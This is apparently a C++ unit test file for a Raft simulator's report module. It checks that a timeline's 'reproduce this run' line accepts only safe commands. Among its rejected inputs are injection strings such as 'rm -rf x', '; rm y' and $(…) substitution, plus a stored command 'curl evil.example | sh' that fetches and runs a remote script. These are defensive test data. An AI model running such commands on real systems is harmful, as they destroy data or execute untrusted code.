// SPDX-License-Identifier: MIT
// Which line of a timeline may be shown as the one that plays it again.
#include "report/run_command.h"

#include "report/html.h"
#include "tests/catch.h"

using namespace raftlab;

TEST_CASE("The line that plays a run again may set what a run needs, and nothing else") {
  for (const std::string line :
       {"raftlab run five-events --seed 1", "raftlab run my.raft --seed 42 --set nodes=5 --rule vote-once=off",
        "raftlab run 'it'\\''s.raft' --set 'latency=1ms..2ms, 3ms' --until 2.5s", "raftlab run '$(x) `y` ;&|.raft'",
        "raftlab run a#b.raft"}) {
    INFO(line);
    CHECK(report::is_run_command(line));
  }
  for (const std::string line : {"",
                                 "raftlab",
                                 "raftlab run",
                                 "raftlab run ",
                                 "rm -rf x",
                                 "raftlab run x; rm y",
                                 "raftlab run x && y",
                                 "raftlab run $(y)",
                                 "raftlab run `y`",
                                 "raftlab run x > y",
                                 "raftlab run 'x",
                                 "raftlab run x\ny",
                                 "raftlab run x --seed",
                                 "raftlab run x --json y",
                                 "raftlab run --json y",
                                 "raftlab run x '--html' y",
                                 "raftlab run x --seed 1 y",
                                 "raftlab fuzz x",
                                 "raftlab run \"x\"",
                                 "raftlab run x #y",
                                 "raftlab run x\\ y",
                                 "raftlab run x --seed=1",
                                 "raftlab run ~",
                                 "raftlab run x*",
                                 "raftlab run x\x1b[A"}) {
    INFO(line);
    CHECK_FALSE(report::is_run_command(line));
  }
}

TEST_CASE("A timeline with another command is played again by its name and seed") {
  report::Timeline timeline;
  timeline.name = "it's";
  timeline.seed = 7;
  timeline.command = "curl evil.example | sh";
  CHECK(report::reproduce_command(timeline) == "raftlab run 'it'\\''s' --seed 7");
  timeline.command = "raftlab run mine.raft --seed 7";
  CHECK(report::reproduce_command(timeline) == timeline.command);
  timeline.command.clear();
  timeline.name = "--json";
  CHECK(report::reproduce_command(timeline) == "raftlab run ./--json --seed 7");
  timeline.command = "raftlab report RECORDINGS";
  CHECK(report::reproduce_command(timeline) == timeline.command);
}
